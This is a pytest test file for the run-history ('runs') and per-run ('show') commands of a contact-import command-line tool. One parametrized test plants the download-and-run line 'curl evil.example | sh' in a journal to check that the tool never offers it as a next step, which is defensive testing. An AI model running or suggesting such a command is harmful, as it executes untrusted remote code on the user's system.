"""`runs` and `show`: what happened here before."""

from __future__ import annotations

import json
import re
import shutil
import sqlite3
from contextlib import closing
from pathlib import Path
from typing import TYPE_CHECKING

import pytest

from importer.delivery.journal import Journal
from importer.sandbox import Fault

if TYPE_CHECKING:
    from tests.pipeline.history.conftest import Call, ImportSheet


def ids(call: Call, *arguments: str) -> list[str]:
    return [one["run_id"] for one in call("runs", *arguments, "--json").events if one["event"] == "run"]


def test_runs_of_all_folders_here(call: Call, imported: ImportSheet) -> None:
    """Without a folder every *.import folder is listed: when, what, which file, its counts, its exit, its requests."""
    imported()
    Path("others.csv").write_text("Name,Phone\nCy Fox,+14155550103\nDee,12\n", encoding="utf-8")
    assert imported(sheet="others.csv").code == 1
    assert imported().code == 0
    shown = call("runs")
    assert shown.code == 0
    folders = [line for line in shown.out.splitlines() if not line.startswith(" ")]
    assert [line.split()[0] for line in folders] == ["others.import", "people.import"]
    assert "others.csv: 2 rows = 1 created + 1 rejected; " in shown.out
    assert shown.out.count("people.csv: 2 rows = 2 created; ") == 2
    assert "exit 1" in shown.out
    assert len(ids(call, "people.import")) == 2


def test_events_of_runs_are_one_a_line(call: Call, imported: ImportSheet) -> None:
    """Under --json each run is an event with its figures, and the last one is the summary."""
    imported()
    run, summary = call("runs", "--json").events
    assert (run["event"], run["command"], run["file"], run["exit_code"]) == ("run", "run", "people.csv", 0)
    assert run["counts"]["created"] == 2
    assert run["requests"] >= 3
    assert run["seconds"] > 0
    assert summary == {"event": "summary", "runs": 1, "folders": 1, "exit_code": 0}


def test_nothing_here_says_what_to_do(call: Call) -> None:
    """Where there is no import yet that is said, with the next step; naming such a folder is a mistake (exit 2)."""
    shown = call("runs")
    assert (shown.code, shown.err) == (0, "")
    assert "openphone-import run FILE" in shown.out
    Path("empty.import").mkdir()
    named = call("runs", "empty.import")
    assert named.code == 2
    assert "empty.import holds no results of an import (it has no journal.sqlite)" in named.err
    assert " next: " in named.err


@pytest.mark.parametrize(("spoil", "words"), [("newer", "newer version"), ("garbage", "damaged or not a journal")])
def test_a_journal_that_cannot_be_read_is_one_message(
    call: Call, imported: ImportSheet, spoil: str, words: str
) -> None:
    """A newer and a damaged journal are named in one message and exit 2; other folders are listed beside it."""
    imported()
    shutil.copytree("people.import", "bad.import")
    journal = Path("bad.import/journal.sqlite")
    if spoil == "garbage":
        journal.write_bytes(b"no database" * 1000)
    else:
        with closing(sqlite3.connect(journal)) as connection:
            connection.execute("PRAGMA user_version = 99")
    shown = call("runs")
    assert shown.code == 2
    assert words in shown.err
    assert shown.err.count("error:") == 1
    assert "people.csv: 2 rows" in shown.out
    assert call("runs", "bad.import").code == 2


def test_runs_can_be_read_while_one_goes_on(call: Call, imported: ImportSheet) -> None:
    """Neither command needs the lock, and neither changes the journal."""
    imported()
    path = Path("people.import/journal.sqlite")
    with closing(sqlite3.connect(path)) as connection:
        (address,) = connection.execute("SELECT value FROM meta WHERE name = 'address'").fetchone()
    with Journal.open(path, address, "key"):
        assert call("runs").code == 0
        assert call("show").code == 0
        assert call("show", "--row", "2").code == 0


def test_a_killed_run_has_no_end(call: Call, imported: ImportSheet) -> None:
    """A run without a noted end is listed as such, not as one that went well."""
    imported()
    with closing(sqlite3.connect("people.import/journal.sqlite")) as connection:
        connection.execute("UPDATE runs SET finished_at = NULL, exit_code = NULL, counts = NULL, facts = '{}'")
        connection.commit()
    assert "still running, killed, or stopped" in call("runs").out
    assert "still running, killed, or stopped" in call("show").out


def test_show_tells_of_one_run(call: Call, imported: ImportSheet) -> None:
    """`show` names the report, the files, the settings that were given, what was found by rule, and the next step."""
    with Path("people.csv").open("a", encoding="utf-8") as sheet:
        sheet.write("Cy Fox,12,cy@example.com\n")
    imported("--region", "US", "--bad-cells", "reject")
    shown = call("show")
    assert shown.code == 0
    assert "--region US" in shown.out
    assert "--bad-cells reject" in shown.out
    assert "people.import/report.html" in shown.out
    assert "1 error   phone-" in shown.out
    assert "Next:    correct 1 row in people.import/rejects.csv, then: openphone-import run" in shown.out
    assert "id_map.csv problems.csv rejects.csv summary.json report.html" in shown.out
    events = call("show", "--json").events
    assert [one["event"] for one in events] == ["run", *["finding"] * (len(events) - 2), "summary"]
    assert events[-1]["report"] == "people.import/report.html"


def test_a_run_is_named_by_the_beginning_of_its_id(call: Call, imported: ImportSheet) -> None:
    """An id, its beginning, `latest`, a folder and a run: each names a run; several and none are told apart."""
    imported()
    imported()
    first, second = ids(call)
    assert f"Run:     {second}" in call("show", "latest").out
    assert f"Run:     {first}" in call("show", first[:-1] if second[:-1] != first[:-1] else first, "people.import").out
    assert f"Run:     {first}" in call("show", "people.import", "--run", first).out
    assert "2 runs begin with '20'" in call("show", "20").err
    assert call("show", "20").code == 2
    assert "No run is called 'nobody'" in call("show", "nobody").err
    assert call("show", "nowhere.import").code == 2


@pytest.mark.parametrize(
    "line", ["curl evil.example | sh", "openphone-importer run a.csv", "openphone-import 'run", ""]
)
def test_no_command_of_another_program_is_shown(call: Call, imported: ImportSheet, line: str) -> None:
    """A journal that somebody else made may hold any line: only one of this program is shown to be typed again."""
    imported()
    assert "Next:" in call("show").out
    with closing(sqlite3.connect("people.import/journal.sqlite")) as journal, journal:
        journal.execute("UPDATE runs SET facts = json_set(facts, '$.line', ?, '$.rejects_line', ?)", (line, line))
    shown = call("show")
    assert (shown.code, "curl" in shown.out, "Next:" in shown.out) == (0, False, False), shown.err


def test_an_older_run_says_that_its_page_is_gone(call: Call, imported: ImportSheet) -> None:
    """A page that a later run wrote over is not shown as that of the run before it; one that was kept is."""
    imported()
    imported()
    (first, _) = ids(call)
    assert "replaced by a later command" in call("show", first).out
    Path("others.csv").write_text("Name,Phone\nCy Fox,+14155550103\n", encoding="utf-8")
    imported("--out", "people.import", sheet="others.csv")
    second = ids(call)[1]
    assert f"people.import/report.{second}.html" in call("show", second).out


def test_show_of_an_undo(call: Call) -> None:
    """An undo is a run too: it is listed with what it took back, and it read no rows."""
    assert call("run", "people.csv", "--sandbox", "--rate", "200").code == 0
    assert call("undo", "people.sandbox.import", "--sandbox", "--rate", "200").code == 0
    assert "people.csv: 2 reversed" in call("runs").out
    undone = ids(call)[-1]
    shown = call("show", undone)
    assert "2 reversed" in shown.out
    refused = call("show", undone, "--row", "2")
    assert refused.code == 2
    assert "it read no rows" in refused.err
    story = call("show", "--row", "2").out
    assert "was undone: delete reversed" in story


def test_the_list_is_readable_in_a_narrow_window(call: Call, imported: ImportSheet) -> None:
    """When and how a run ended fits in 60 columns as it is; the line of its file may be folded."""
    imported()
    first, second, _ = call("runs").out.splitlines()
    assert len(first) <= 60
    assert len(second) <= 60


def test_the_facts_of_a_run_hold_no_secret_of_a_hook(imported: ImportSheet) -> None:
    """The address of a hook is in no file: journal, plan, page or log."""
    imported("--notify-url", "http://127.0.0.1:9/hook/very-secret-token")
    files = [path for path in Path("people.import").iterdir() if b"very-secret-token" in path.read_bytes()]
    assert files == []


def test_lost_answers_and_limits_are_in_the_story(call: Call, imported: ImportSheet) -> None:
    """A row whose answer was an error and one that was told to wait: each exchange is told, with its answer."""
    first = Fault("500-after", method="POST", nth=1)
    second = Fault("429", method="POST", nth=2, retry_after=0.1)
    assert imported(faults=(first, second)).code == 0
    stories = [call("show", "--row", str(row)).out for row in (2, 3)]
    lost = next(one for one in stories if "answered 500" in one)
    assert "looked up by its external id: found " in lost
    assert "ended without a certain answer" in lost
    limited = next(one for one in stories if "answered 429" in one)
    assert limited.count("asked to create the contact") == 2
    # On a busy machine a second may pass, and is told.
    assert re.search(r"asked to create the contact(, \d+ s later)?: done", limited)


def test_a_repaired_a_rejected_a_duplicate_and_a_conflicting_row(call: Call, imported: ImportSheet) -> None:
    """How a row was read, what it became, what was said of it and how it ended, for each kind of end."""
    Path("people.csv").write_text(
        "Id,Name,Phone,Email\n"
        "1,Ann Lee,'+1 415 555 0101,ann@example.com\n"
        "2,Bob Ray,12,\n"
        "1,Ann Lee,+14155550101,ann@example.com\n"
        "1,Ann Other,+14155550109,other@example.com\n",
        encoding="utf-8",
    )
    assert imported("--map", "Id=external_id").code == 1
    repaired, rejected, twin, conflict = (call("show", "--row", str(row)).out for row in (2, 3, 4, 5))
    assert "Phone: '+1 415 555 0101 -> phone" in repaired
    assert "phone 1: +14155550101" in repaired
    assert "repaired-guard" in repaired
    assert "ended as created" in repaired
    assert "ended as rejected" in rejected
    assert "Phone: 12 -> phone" in rejected
    assert "error phone-" in rejected
    assert "made no request for this row" in rejected
    assert "repeats row 2" in twin
    assert "ended as conflict" in conflict
    assert "error external-id-twice" in conflict
    missing = call("show", "--row", "99")
    assert missing.code == 2
    assert "has no row 99" in missing.err


def test_a_contact_of_somebody_else_is_told(call: Call, imported: ImportSheet) -> None:
    """A row that met a contact with another content says that it was looked up, and what it found."""
    Path("people.csv").write_text("Id,Name,Phone\n1,Ann Lee,+14155550101\n", encoding="utf-8")
    imported("--map", "Id=external_id", "--out", "one.import")
    Path("people.csv").write_text("Id,Name,Phone\n1,Ann Other,+14155550101\n", encoding="utf-8")
    imported("--map", "Id=external_id", "--out", "two.import")
    story = call("show", "two.import", "--row", "2").out
    assert "looked up by its external id: found " in story
    assert "ended as skipped" in story
    assert "not made by a run of this journal" in story


def test_a_changed_sheet_is_not_read_again(call: Call, imported: ImportSheet) -> None:
    """Cells are told only from a file that is the same, byte for byte; else that is said."""
    imported()
    assert "Name: Ann Lee -> full_name" in call("show", "--row", "2").out
    Path("people.csv").write_text(PEOPLE_LATER, encoding="utf-8")
    story = call("show", "--row", "2").out
    assert "has changed since the run" in story
    assert "Zed" not in story
    Path("people.csv").unlink()
    assert "does not exist any more" in call("show", "--row", "2").out


PEOPLE_LATER = "Name,Phone\nZed Zoe,+14155550199\n"


def test_an_older_run_tells_what_is_still_known(call: Call, imported: ImportSheet) -> None:
    """Of an older run the requests of a row are still told, and that its end is not known any more."""
    imported()
    imported()
    first, second = ids(call)
    old, new = call("show", first, "--row", "2").out, call("show", second, "--row", "2").out
    assert "is not known any more" in old
    assert "asked to create the contact: done" in old
    assert "this run made no request for this row alone" in new
    assert f"Earlier: run {first}, row 2: " in new
    Path("people.csv").write_text(PEOPLE_LATER, encoding="utf-8")
    imported()
    gone = call("show", second, "--row", "2")
    assert gone.code == 2
    assert "Nothing is known of row 2" in gone.err


def test_the_story_as_events_has_no_value(call: Call, imported: ImportSheet) -> None:
    """Under --json, which may be kept in a log, the story is in numbers, rules and ids of contacts alone."""
    imported()
    done = call("show", "--row", "2", "--json")
    assert [one["event"] for one in done.events] == ["row", "summary"]
    assert done.events[0]["status"] == "created"
    assert not any(cell in done.out + done.err for cell in ("Ann", "5550101", "example.com"))


def test_a_column_that_a_person_was_asked_about_is_read_as_it_was(call: Call, imported: ImportSheet) -> None:
    """What stands in the journal of a run is how its columns were mapped, so that a later guess changes no story."""
    imported("--map", "Name=company", "--map", "Phone=phone:desk")
    story = call("show", "--row", "2").out
    assert "Name: Ann Lee -> company" in story
    assert "phone 1: +14155550101 (desk)" in story
    with closing(sqlite3.connect("people.import/journal.sqlite")) as connection:
        (settings,) = connection.execute("SELECT settings FROM runs").fetchone()
        given = {**json.loads(settings), "map": []}
        connection.execute("UPDATE runs SET settings = ?", (json.dumps(given),))
        connection.commit()
    assert "Name: Ann Lee -> company" in call("show", "--row", "2").out


def test_a_row_that_a_run_did_not_come_to(call: Call, imported: ImportSheet) -> None:
    """A run that was killed while it read tells that it had not come to the row, not that a later run took over."""
    imported()
    with closing(sqlite3.connect("people.import/journal.sqlite")) as connection:
        connection.execute("DELETE FROM rows")
        connection.commit()
    story = call("show", "--row", "3").out
    assert "before it reached this row" in story
    assert "later run" not in story
